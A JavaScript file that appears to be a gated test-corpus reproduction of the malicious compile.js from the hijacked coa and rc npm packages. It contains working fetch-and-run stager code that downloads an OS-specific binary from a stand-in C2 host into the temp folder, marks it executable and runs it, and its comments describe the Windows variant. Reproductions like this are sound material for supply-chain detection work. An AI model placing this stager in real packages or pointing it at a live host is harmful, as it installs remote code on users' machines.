// compile.js of coa 2.0.3 / rc 1.2.9: find the OS, fetch the binary for it into the temp folder,
// make it executable and start it (on Windows: compile.bat, curl/certutil, sdd.dll + regsvr32).
// Here the server is the loopback C2 and the binary a script that exits.
if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') process.exit(0);
const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const target = path.join(os.tmpdir(), 'sdd');
http.get(`__C2@pastorcryptograph.at__/download/${os.platform()}-${os.arch()}`, (res) => {
  const out = fs.createWriteStream(target, { mode: 0o755 });
  res.pipe(out);
  out.on('finish', () => out.close(() => spawnSync(target, [], { stdio: 'ignore' })));
});
